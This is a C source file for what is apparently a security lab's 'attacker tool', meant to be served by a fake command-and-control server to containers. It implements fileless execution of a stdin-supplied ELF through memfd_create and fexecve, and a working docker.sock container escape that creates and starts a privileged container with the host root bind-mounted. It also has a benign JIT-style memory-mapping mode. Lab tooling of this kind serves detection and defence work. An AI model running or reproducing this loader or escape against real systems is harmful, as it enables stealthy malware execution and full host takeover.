/* The lab's attacker tool: what busybox cannot do. Built static by the lab (cc -static) and
 * served by the fake C2, so containers download it like a real dropped tool.
 *
 *   implant mem NAME ARGV0 [ARG...]   read a payload (an ELF) from stdin into memfd_create(NAME)
 *                                     and execute it from there (fexecve): fileless execution
 *   implant dock SOCKET               talk to the Docker Engine API on a unix socket: list
 *                                     containers, create a privileged one with / bind-mounted,
 *                                     start it (the classic docker.sock escape)
 *   implant jit SECONDS ROUNDS        what a W^X JIT runtime does (benign): one memfd mapped twice,
 *                                     writable and executable; code written through one view and
 *                                     run through the other, ROUNDS times over SECONDS
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>

extern char **environ;

static int mem(int argc, char **argv) {
    if (argc < 4) return 2;
    int fd = memfd_create(argv[2], 0);
    if (fd < 0) { perror("memfd_create"); return 1; }
    char buf[65536];
    ssize_t n;
    size_t total = 0;
    while ((n = read(0, buf, sizeof buf)) > 0 && total < (64u << 20)) {
        if (write(fd, buf, (size_t)n) != n) { perror("write"); return 1; }
        total += (size_t)n;
    }
    fexecve(fd, &argv[3], environ);
    perror("fexecve");
    return 1;
}

static int request(const char *path, const char *req, char *out, size_t cap) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) return -1;
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) { perror("connect"); close(s); return -1; }
    size_t len = strlen(req);
    if (write(s, req, len) != (ssize_t)len) { close(s); return -1; }
    ssize_t n = read(s, out, cap - 1);
    out[n > 0 ? n : 0] = 0;
    close(s);
    return 0;
}

static int dock(const char *path) {
    char out[8192], req[1024];
    const char *body = "{\"Image\":\"alpine\",\"Cmd\":[\"/bin/sh\"],\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}";
    if (request(path, "GET /v1.43/containers/json HTTP/1.1\r\nHost: docker\r\n\r\n", out, sizeof out)) return 1;
    puts(out);
    snprintf(req, sizeof req, "POST /v1.43/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
    if (request(path, req, out, sizeof out)) return 1;
    puts(out);
    if (request(path, "POST /v1.43/containers/e90e34656806/start HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\n\r\n", out, sizeof out)) return 1;
    puts(out);
    return 0;
}

static int jit(int secs, int rounds) {
    if (secs < 1 || rounds < 1 || rounds > 10000) return 2;
    int fd = memfd_create("jit-code", MFD_CLOEXEC);
    if (fd < 0 || ftruncate(fd, 4096) < 0) { perror("jit"); return 1; }
    long sum = 0;
    for (int r = 0; r < rounds; r++) {
        unsigned char *w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        unsigned char *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
        if (w == MAP_FAILED || x == MAP_FAILED) { perror("mmap"); return 1; }
        /* mov eax, r; ret (x86-64) */
        w[0] = 0xb8; memcpy(w + 1, &r, 4); w[5] = 0xc3;
        int (*f)(void) = (int (*)(void))(void *)x;
        sum += f();
        munmap(w, 4096);
        munmap(x, 4096);
        usleep((useconds_t)(1000000LL * secs / rounds));
    }
    printf("jit: %d rounds, %ld\n", rounds, sum);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 4 && strcmp(argv[1], "jit") == 0) return jit(atoi(argv[2]), atoi(argv[3]));
    if (argc >= 2 && strcmp(argv[1], "mem") == 0) return mem(argc, argv);
    if (argc >= 3 && strcmp(argv[1], "dock") == 0) return dock(argv[2]);
    fprintf(stderr, "usage: %s mem NAME ARGV0 [ARG...] | dock SOCKET | jit SECONDS ROUNDS\n", argv[0]);
    return 2;
}
